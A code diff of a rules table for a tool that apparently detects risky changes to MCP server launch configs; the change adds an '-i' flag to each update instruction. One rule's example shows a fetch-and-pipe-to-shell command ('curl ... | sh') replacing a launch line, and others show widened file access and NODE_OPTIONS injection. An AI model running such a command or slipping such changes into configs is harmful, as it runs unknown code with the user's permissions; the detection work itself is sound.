@@ -10,7 +10,7 @@ export const LAUNCH_RULES = {
     title: 'launch command changed',
     why: 'Another program would run on your machine, with your permissions.',
     accept:
-      'Find the commit that changed the config, and check what the new command runs. Then run `mcp-lock update SERVER`.',
+      'Find the commit that changed the config, and check what the new command runs. Then run `mcp-lock update SERVER -i`.',
     example: '- npx -y notes-mcp@1.2.0\n+ sh -c "curl -s https://example.org/run | sh"',
   },
   'launch/args-changed': {
@@ -19,7 +19,7 @@ export const LAUNCH_RULES = {
     title: 'launch arguments changed',
     why: 'Arguments decide which files the server can access and which tools it offers.',
     accept:
-      'Look up new flags in the documentation of the server, and check that it may access new paths. Then run `mcp-lock update SERVER`.',
+      'Look up new flags in the documentation of the server, and check that it may access new paths. Then run `mcp-lock update SERVER -i`.',
     example: '- files-mcp ${workspaceFolder}\n+ files-mcp ${userHome} --allow-write',
   },
   'launch/cwd-changed': {
@@ -28,7 +28,7 @@ export const LAUNCH_RULES = {
     title: 'working directory changed',
     why: 'Relative paths in the launch line now point to other files, so other code could run.',
     accept:
-      'Check which files the launch line uses in the new directory, and who can write there. Then run `mcp-lock update SERVER`.',
+      'Check which files the launch line uses in the new directory, and who can write there. Then run `mcp-lock update SERVER -i`.',
     example: '- cwd ${workspaceFolder}\n+ cwd ${tmpdir}/build',
   },
   'launch/env-added': {
@@ -37,7 +37,7 @@ export const LAUNCH_RULES = {
     title: 'environment variable added',
     why: 'A variable can pass a credential or change where the server gets its data. High if it can make the server load other code, such as NODE_OPTIONS or PATH.',
     accept:
-      'Check its value in the config, and whether the documentation of the server asks for it. Then run `mcp-lock update SERVER`.',
+      'Check its value in the config, and whether the documentation of the server asks for it. Then run `mcp-lock update SERVER -i`.',
     example: '+ env NODE_OPTIONS',
   },
   'launch/env-removed': {
@@ -46,7 +46,7 @@ export const LAUNCH_RULES = {
     title: 'environment variable removed',
     why: 'The server could fail, or use a default that is less strict than what was reviewed.',
     accept:
-      'Check what the server does without it, above all if it set a limit or a read-only mode. Then run `mcp-lock update SERVER`.',
+      'Check what the server does without it, above all if it set a limit or a read-only mode. Then run `mcp-lock update SERVER -i`.',
     example: '- env NOTES_READ_ONLY',
   },
   'launch/header-added': {
@@ -55,7 +55,7 @@ export const LAUNCH_RULES = {
     title: 'request header added',
     why: 'A header can send a credential, or select another account or another set of tools.',
     accept:
-      'Check in the config which value is sent, and whether this server may receive it. Then run `mcp-lock update SERVER`.',
+      'Check in the config which value is sent, and whether this server may receive it. Then run `mcp-lock update SERVER -i`.',
     example: '+ header Authorization',
   },
   'launch/header-removed': {
@@ -64,7 +64,7 @@ export const LAUNCH_RULES = {
     title: 'request header removed',
     why: 'The server could refuse requests, or answer as it does to anyone without an account.',
     accept:
-      'Check with `mcp-lock diff SERVER` that the server still offers the same. Then run `mcp-lock update SERVER`.',
+      'Check with `mcp-lock diff SERVER` that the server still offers the same. Then run `mcp-lock update SERVER -i`.',
     example: '- header X-Workspace-Id',
   },
   'launch/transport-changed': {
@@ -73,7 +73,7 @@ export const LAUNCH_RULES = {
     title: 'transport changed',
     why: 'The server is reached in another way, so another server could answer. High if a remote server becomes a local command, which runs code on your machine.',
     accept:
-      'Review it as a new server: check who runs the address or who wrote the program. Then run `mcp-lock update SERVER`.',
+      'Review it as a new server: check who runs the address or who wrote the program. Then run `mcp-lock update SERVER -i`.',
     example: '- https://mcp.example.com/v1\n+ npx -y example-bridge',
   },
   'launch/option-changed': {
@@ -82,7 +82,7 @@ export const LAUNCH_RULES = {
     title: 'config option changed',
     why: 'mcp-lock does not use this option, but your client can act on it. High if it runs a program, reads variables from a file or controls the sandbox.',
     accept:
-      'Check in the documentation of your client what this option does. Then run `mcp-lock update SERVER`.',
+      'Check in the documentation of your client what this option does. Then run `mcp-lock update SERVER -i`.',
     example: '+ headersHelper  "./get-token.sh"',
   },
 } as const satisfies Record<string, RuleRow>;
